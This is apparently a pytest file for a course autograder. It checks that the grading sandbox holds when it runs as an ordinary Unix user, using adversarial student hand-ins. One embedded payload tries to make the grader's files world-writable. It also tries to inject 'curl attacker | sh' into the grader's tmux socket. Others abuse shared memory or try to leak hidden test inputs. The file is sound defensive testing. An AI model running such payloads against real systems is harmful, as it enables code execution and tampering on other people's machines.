"""A grader that is an ordinary user: the same walls as for root (issue 39).

A Unix user this session creates (conftest ``grader_user``) keeps a course in its home folder (Debian's 0755) and
grades a small class of 01 with the course's own command. Its kernels run as that user (in a user namespace), so
they own the course folder, the gradebook and the hand-ins on the host. Among the hand-ins:
- the untouched release, and the release whose every answer cell looks for the masters and the catalogues (by
  name and by search) and runs whatever solutions it finds: both must score exactly the same;
- a hand-in that makes the home, the course folder, the gradebook, ``source/`` and ``submitted/`` world-writable
  (and changes their times and extended attributes) and connects to the grader's tmux socket: nothing changes,
  nobody connects;
- a hand-in that leaves 64 MiB of System V shared memory and one that runs what it finds there: the second scores
  as its wrong answer, and the host's shared memory is what it was;
- a hand-in whose function raises the hidden test's input: its feedback page never shows it.
The sandbox attacks of test_sandbox.py run as the same user; this shows the walls hold for a whole grading run.
"""

from __future__ import annotations

import os
import pwd
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from harness import feedback, feedback_text, read_scores, released_course, sysv_shared_memory

from attention_course.grading.course import ROOT
from attention_course.grading.run import doctor
from tools.submissions import BLANK, COMPLETE, read_notebook, write_class, write_notebook

sys.path.insert(0, str(Path(__file__).parent / "catalogue"))
import adversarial  # noqa: E402
from sandbox_attacks import Listener  # noqa: E402

A = adversarial.ASSIGNMENT
NOTEBOOK = adversarial.NOTEBOOK
TOOLS = ROOT / "tests" / "tools"

#: Makes everything of the course it can name world-writable, dates it to 1970, tags it, and knocks on the
#: grader's tmux socket. ``{targets}``, ``{socket}``.
REACH = """
import os, socket
done = []
for path in {targets!r}:
    for what, change in (("chmod", lambda: os.chmod(path, 0o777)), ("utime", lambda: os.utime(path, (0, 0))),
                         ("xattr", lambda: os.setxattr(path, "user.attack", b"1")),
                         ("chown", lambda: os.chown(path, os.getuid(), os.getgid()))):
        try:
            change()
            done.append(what + " " + path)
        except OSError:
            pass
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    s.connect({socket!r})
    s.sendall(b"send-keys 'curl attacker | sh' Enter\\n")
    done.append("tmux")
except OSError:
    pass
print("done", done)
"""


def state(path: Path) -> tuple:
    """Mode, owner, extended attributes, and whether the times were set to 1970 (grading itself writes the
    course folder and the gradebook, so their times move)."""
    st = os.lstat(path)
    return st.st_mode, st.st_uid, tuple(os.listxattr(path, follow_symlinks=False)), st.st_mtime_ns < 10**18


@pytest.fixture(scope="module")
def user_class(grader_user, tmp_path_factory):
    if os.geteuid() != 0:
        pytest.skip("creating a grader user needs root")
    home = Path(pwd.getpwuid(grader_user).pw_dir)
    course = released_course(home, [A])
    masters = {"complete": COMPLETE, "blank": BLANK}
    attacks = {a.name: a for a in adversarial.ATTACKS}
    chosen = ["shm-leaves-answer", "shm-takes-answer", "echo-hidden-input-raised"]
    write_class(course, A, {**masters, "unscaled-scores": adversarial.BASE["unscaled-scores"],
                            **{name: attacks[name].submission() for name in chosen}})
    released = read_notebook(course / "release" / A / NOTEBOOK)
    write_class(course, A, {"blank-reads-source": adversarial.BLANK_READS_SOURCE})
    tmux = f"/tmp/tmux-{grader_user}/default"
    shutil.rmtree(os.path.dirname(tmux), ignore_errors=True)
    targets = [home, course, course / "gradebook.db", course / "source", course / "source" / A,
               course / "source" / A / NOTEBOOK, course / "source" / A / "catalogue.py", course / "submitted",
               course / "submitted" / "complete" / A / NOTEBOOK, course / "nbgrader_config.py"]
    nb = dict(released, cells=[adversarial._cell(REACH.format(targets=[str(t) for t in targets], socket=tmux)),
                               *released["cells"]])
    write_notebook(nb, course / "submitted" / "reaches-out" / A / NOTEBOOK)
    subprocess.run(["chown", "-R", f"{grader_user}:{grader_user}", str(course)], check=True)
    os.makedirs(os.path.dirname(tmux), mode=0o700)
    knock = Listener(tmux)  # the grader's tmux socket: counts who connects
    for path in (os.path.dirname(tmux), tmux):
        os.chown(path, grader_user, grader_user)
    tmp = tmp_path_factory.mktemp("grader-tmp")
    os.chmod(tmp.parent, 0o755)
    os.chmod(tmp, 0o1777)
    before = {t: state(t) for t in targets if t.exists()}
    shm_before = sysv_shared_memory()
    reach = [os.path.realpath(sys.base_prefix), sys.prefix, str(ROOT), str(tmp)]
    cmd = [sys.executable, str(TOOLS / "as_user.py"), "--user", str(grader_user), ":".join(reach), "--", "env",
           f"HOME={home}", f"TMPDIR={tmp}", f"PATH={Path(sys.executable).parent}:/usr/bin:/bin",
           "PYTHONDONTWRITEBYTECODE=1", sys.executable, "-m", "attention_course.grading", "--course", str(course),
           "autograde", "-j", "1"]
    run = subprocess.run(cmd, capture_output=True, text=True, timeout=600)
    shm_after = sysv_shared_memory()
    knock.sock.close()
    shutil.rmtree(os.path.dirname(tmux), ignore_errors=True)
    feedback(course, [A], processes=1)
    return {"course": course, "run": run, "before": before, "after": {t: state(t) for t in before},
            "knocks": knock.connected, "shm": (shm_before, shm_after), "scores": read_scores(course, A), "uid": grader_user}


def test_the_class_is_graded_as_the_user_with_every_layer(user_class):
    run = user_class["run"]
    assert run.returncode == 0, run.stderr[-3000:]
    assert "Graded 8, skipped 0 unchanged, failed 0" in run.stderr, run.stderr[-3000:]
    missing = re.findall(r"WARNING: sandbox layer missing: (\w+)", run.stderr)
    assert not set(missing) & set(doctor.REQUIRED), run.stderr  # cgroups are not delegated to an ordinary user here
    assert os.stat(user_class["course"] / "gradebook.db").st_uid == user_class["uid"], "graded by someone else"


def test_a_blank_that_reads_the_course_scores_what_the_blank_scores(user_class):
    scores = user_class["scores"]
    blank = {cell: v[0] for cell, v in scores["blank"].items()}
    assert sum(v[0] or 0 for v in scores["complete"].values()) > 0, "the complete answer earned nothing"
    assert {cell: v[0] for cell, v in scores["blank-reads-source"].items()} == blank, scores["blank-reads-source"]


def test_nothing_of_the_graders_changes_and_nobody_reaches_its_socket(user_class):
    changed = {str(t): (b, user_class["after"][t]) for t, b in user_class["before"].items() if user_class["after"][t] != b}
    assert not changed, f"a hand-in changed the grader's files: {changed}"
    assert user_class["knocks"] == 0, "a kernel connected to the grader's tmux socket"
    db = os.stat(user_class["course"] / "gradebook.db").st_mode
    assert not db & 0o022, f"the gradebook is writable by others ({oct(db)})"


def test_no_shared_memory_is_shared_or_left(user_class):
    scores = user_class["scores"]
    taken = {cell: v[0] for cell, v in scores["shm-takes-answer"].items()}
    assert taken == {cell: v[0] for cell, v in scores["unscaled-scores"].items()}, taken
    before, after = user_class["shm"]
    assert abs(after - before) < 2**20, f"the host's System V shared memory went from {before} to {after} bytes"


def test_feedback_shows_no_hidden_input_a_function_raised(user_class):
    text = feedback_text(user_class["course"], "echo-hidden-input-raised", A)
    assert "ValueError: raised by your code on a hidden test's input" in text
    assert adversarial.LEAK not in text
